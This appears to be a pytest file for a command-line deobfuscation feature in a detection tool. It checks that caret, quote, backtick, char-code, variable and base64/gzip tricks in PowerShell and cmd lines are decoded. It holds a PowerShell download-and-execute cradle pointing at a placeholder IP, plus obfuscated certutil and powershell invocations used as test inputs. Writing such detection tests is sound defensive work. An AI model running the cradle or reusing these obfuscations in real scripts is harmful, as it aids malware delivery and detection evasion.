from __future__ import annotations

import base64
import gzip
import time

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from vedette.features.command_decode import HIDDEN, LINE, LONGEST, TOLD, decode

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a')"


def _wide(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


@pytest.mark.parametrize(
    ("line", "said", "told"),
    [
        ("c^e^r^t^util -f", "certutil -f", "caret"),
        ('po""wer""shell -c 1', "powershell -c 1", "quotes"),
        ("I`E`X $a", "iex $a", "tick"),
        ("'down'+'load'", "'download'", "joined"),
        ("('{1}{0}' -f 'x','ie')", "('iex')", "format"),
        ("[char]105+[char]101+[char]120", "'iex'", "codes"),
        ("x(String.fromCharCode(105,101,120,33))", "'iex!'", "codes"),
        ("%comspec:~-7,3% /c a", "cmd /c a", "cut-out"),
        ("cmd /c set a=cert&& set b=util&& %a%%b% -f", "certutil -f", "variables"),
        ("pOwErShElL -c 1", "powershell -c 1", "mixed-case"),
        ("powershell \u2013enc x", "powershell -enc x", ""),
    ],
)
def test_what_hides_a_word_is_taken_off_and_told(line: str, said: str, told: str) -> None:
    text = decode(pl.Series([line]))[0]
    assert said in text.partition(TOLD)[0]
    assert (f"{TOLD}{told}" in text) if told else TOLD not in text


@pytest.mark.parametrize(
    "held",
    [
        _wide(CRADLE),
        base64.b64encode(CRADLE.encode()).decode(),
        base64.b64encode(gzip.compress((CRADLE * 3).encode())).decode(),
        _wide(f"powershell -enc {_wide(CRADLE)}"),
    ],
)
def test_base64_is_laid_open(held: str) -> None:
    text = decode(pl.Series([f"powershell -e {held}"]))[0]
    assert CRADLE.lower() in text.partition(HIDDEN)[2]


def test_names_and_paths_are_no_base64() -> None:
    lines = pl.Series(
        [r"C:\Program Files\AbcdefghijklmnopQrstuv\x.exe", "/usr/lib/systemd/systemdjournaldxyz", "a" * 64]
    )
    assert not decode(lines).str.contains(HIDDEN, literal=True).any()


def test_ordinary_lines_stay_but_for_case() -> None:
    line = r'"C:\Program Files\Larch\a.exe" --type=renderer /prefetch:1 "D:\It' + "'" + r's here.docx"'
    assert decode(pl.Series([line, None])).to_list() == [LINE + line.lower(), LINE]


@given(st.lists(st.text(max_size=200), max_size=8))
def test_nothing_sent_forges_a_mark(lines: list[str]) -> None:
    for text in decode(pl.Series(lines, dtype=pl.String)):
        assert text.startswith(LINE)
        assert LINE not in text[1:]
        for part in text.split(TOLD)[1:]:
            assert part.strip().split(HIDDEN)[0].strip() in {
                *("caret", "tick", "quotes", "joined", "format", "codes", "cut-out", "variables", "mixed-case"),
            }


def test_a_long_line_takes_no_longer_than_its_length() -> None:
    hostile = pl.Series(
        ["^" * LONGEST, "[char]1+" * 3_000, "A" * LONGEST, "set a=%a%" * 2_000, "{0}" * 9_000, ("QUFB" * 8 + " ") * 500]
    )
    began = time.process_time()
    made = decode(hostile)
    assert time.process_time() - began < 5
    assert (made.str.len_chars() < 4 * LONGEST * 8).all()
